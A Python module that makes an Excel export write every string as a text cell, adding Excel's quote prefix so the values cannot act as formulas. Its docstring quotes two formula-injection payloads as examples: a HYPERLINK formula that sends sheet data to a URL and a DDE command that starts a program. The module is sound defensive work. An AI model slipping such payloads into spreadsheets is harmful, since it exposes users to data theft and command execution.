"""Writing text into Excel cells so that it stays text (``append_row``).

Text that starts with = + - @ (or a tab or carriage return) is a
formula or a DDE call to Excel: ``=HYPERLINK("http://…?"&A1)`` sends the sheet away, and
``=cmd|' /C calc'!A0`` starts a program. Every string an export writes is stored as a text cell,
never a formula, and those starting so carry Excel's quote prefix (the apostrophe a person types
before such text), so editing the cell keeps it text too. The cell shows exactly what was
typed, and reads back (the WBS import) as exactly that."""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Characters XML 1.0 cannot carry (openpyxl refuses the whole file for one of them).
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def append_row(sheet, values: Iterable) -> None:
    """Append ``values`` to ``sheet`` as its next row. Strings become text cells whatever they
    start with; numbers, dates and None are written as openpyxl writes them."""
    from openpyxl.cell import Cell

    cells = []
    for value in values:
        if isinstance(value, str):
            value = _NOT_IN_XML.sub("", value)
        cell = Cell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"  # openpyxl made "=…" a formula and "#N/A" an error
            if value.startswith(FORMULA_STARTS):
                cell.quotePrefix = True
        cells.append(cell)
    sheet.append(cells)
